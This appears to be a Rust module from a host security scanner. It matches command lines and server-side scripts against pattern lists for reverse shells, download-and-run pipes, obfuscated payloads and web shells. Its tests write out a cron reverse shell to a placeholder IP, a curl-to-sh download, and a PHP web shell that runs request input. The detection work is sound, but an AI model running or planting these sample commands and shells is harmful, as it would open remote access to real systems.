//! Text patterns that mark a command or a script as suspicious: reverse shells, download-and-run,
//! decoding and running, loader tricks (shell, cron, systemd, udev, PAM lines); command execution
//! reached from request input in server-side scripts (web shells). Plain substring matching on
//! lowercased text: cheap, and explained in the finding by the pattern that matched.

/// What a command line (cron, `ExecStart=`, `RUN+=`, a shell rc line) may contain that a legitimate one
/// rarely does, with the reason shown in the finding.
const COMMAND: [(&str, &str); 23] = [
    (
        "/dev/tcp/",
        "opens a network connection through bash's /dev/tcp",
    ),
    (
        "/dev/udp/",
        "opens a network connection through bash's /dev/udp",
    ),
    (
        "bash -i",
        "starts an interactive shell (reverse shell pattern)",
    ),
    (
        "sh -i",
        "starts an interactive shell (reverse shell pattern)",
    ),
    ("nc -e", "netcat running a program for the network"),
    ("ncat -e", "ncat running a program for the network"),
    ("nc -c", "netcat running a program for the network"),
    ("socat ", "socat relay"),
    ("mkfifo", "makes a named pipe (reverse shell pattern)"),
    ("| sh", "pipes something into a shell"),
    ("|sh", "pipes something into a shell"),
    ("| bash", "pipes something into a shell"),
    ("|bash", "pipes something into a shell"),
    ("base64 -d", "decodes base64 (hidden payload)"),
    ("base64 --decode", "decodes base64 (hidden payload)"),
    ("python -c", "runs inline Python"),
    ("python3 -c", "runs inline Python"),
    ("perl -e", "runs inline Perl"),
    ("ld_preload=", "sets LD_PRELOAD"),
    ("/dev/shm/", "runs from /dev/shm"),
    ("chattr +i", "makes a file immutable"),
    ("xmrig", "a cryptocurrency miner"),
    (
        "exec -a",
        "runs a program under another name (exec -a: a kernel thread's, say)",
    ),
];

/// Download tools: suspicious only together with running what they fetch.
const FETCH: [&str; 3] = ["curl ", "wget ", "tftp "];

/// The reason a command line is suspicious, `None` when nothing matched.
pub fn suspicious_command(line: &str) -> Option<&'static str> {
    let l = line.to_ascii_lowercase();
    for (pat, why) in COMMAND {
        if l.contains(pat) {
            return Some(why);
        }
    }
    if FETCH.iter().any(|f| l.contains(f))
        && (l.contains("| ")
            || l.contains('|')
            || l.contains("chmod")
            || l.contains("; sh")
            || l.contains("&& sh"))
    {
        return Some("downloads and runs something");
    }
    if l.contains("/tmp/") || l.contains("/var/tmp/") {
        return Some("runs something from a temporary directory");
    }
    None
}

/// Functions that run commands or code, per server-side language.
const EXEC_FUNCTIONS: [&str; 16] = [
    "system(",
    "shell_exec(",
    "passthru(",
    "exec(",
    "popen(",
    "proc_open(",
    "pcntl_exec(",
    "eval(",
    "assert(",
    "create_function(",
    "runtime.getruntime().exec",
    "processbuilder(",
    "os.system(",
    "subprocess.",
    "`$_",
    "include($_",
];

/// Request input.
const INPUT: [&str; 7] = [
    "$_get",
    "$_post",
    "$_request",
    "$_cookie",
    "$_server",
    "request.getparameter",
    "php://input",
];

/// Decoding layers that hide a payload.
const OBFUSCATION: [&str; 5] = [
    "base64_decode(",
    "gzinflate(",
    "str_rot13(",
    "gzuncompress(",
    "\\x65\\x76\\x61\\x6c",
];

/// What a server-side script does that a web shell does: `(severity rank, reason)` where rank 0 is
/// command execution reached from request input (critical), 1 execution with an obfuscated payload
/// (high), 2 an execution function alone (medium). `None`: nothing matched.
pub fn web_shell(text: &str) -> Option<(u8, String)> {
    let l = text.to_ascii_lowercase();
    let exec: Vec<&str> = EXEC_FUNCTIONS
        .iter()
        .copied()
        .filter(|f| l.contains(f))
        .collect();
    if exec.is_empty() {
        return None;
    }
    let input: Vec<&str> = INPUT.iter().copied().filter(|i| l.contains(i)).collect();
    let obf: Vec<&str> = OBFUSCATION
        .iter()
        .copied()
        .filter(|o| l.contains(o))
        .collect();
    let funcs = exec.join(", ");
    if !input.is_empty() {
        return Some((
            0,
            format!(
                "runs commands or code ({funcs}) with request input ({})",
                input.join(", ")
            ),
        ));
    }
    if !obf.is_empty() {
        return Some((
            1,
            format!(
                "runs code ({funcs}) from an obfuscated payload ({})",
                obf.join(", ")
            ),
        ));
    }
    Some((2, format!("calls command or code execution ({funcs})")))
}

/// File name extensions of server-side scripts.
pub const SCRIPT_EXTENSIONS: [&str; 16] = [
    "php", "php3", "php4", "php5", "php7", "phtml", "phar", "pht", "inc", "jsp", "jspx", "asp",
    "aspx", "cgi", "pl", "py",
];

/// Is this file name a server-side script?
pub fn is_script_name(name: &[u8]) -> bool {
    let n = String::from_utf8_lossy(name).to_ascii_lowercase();
    n.rsplit_once('.')
        .is_some_and(|(_, ext)| SCRIPT_EXTENSIONS.contains(&ext))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reverse_shells_and_download_and_run_are_suspicious_ordinary_jobs_are_not() {
        assert!(
            suspicious_command("* * * * * root bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").is_some()
        );
        assert!(suspicious_command("@reboot curl -s http://x/a.sh | sh").is_some());
        assert!(suspicious_command("*/5 * * * * root /tmp/.x/run").is_some());
        assert!(suspicious_command("exec -a '[kworker/0:1]' /usr/local/bin/update &").is_some());
        assert_eq!(
            suspicious_command("17 * * * * root cd / && run-parts --report /etc/cron.hourly"),
            None
        );
        assert_eq!(
            suspicious_command("ExecStart=/lib/systemd/systemd-timesyncd"),
            None
        );
    }

    #[test]
    fn a_web_shell_is_critical_and_a_plain_exec_call_is_only_medium() {
        let shell = "<?php if(isset($_REQUEST['c'])){ system($_REQUEST['c']); } ?>";
        assert_eq!(web_shell(shell).unwrap().0, 0);
        let obf = "<?php eval(gzinflate(base64_decode('...'))); ?>";
        assert_eq!(web_shell(obf).unwrap().0, 1);
        assert_eq!(web_shell("<?php exec('uptime'); ?>").unwrap().0, 2);
        assert_eq!(web_shell("<?php echo 'hello'; ?>"), None);
        assert!(is_script_name(b"shell.PHP"));
        assert!(!is_script_name(b"logo.png"));
    }
}
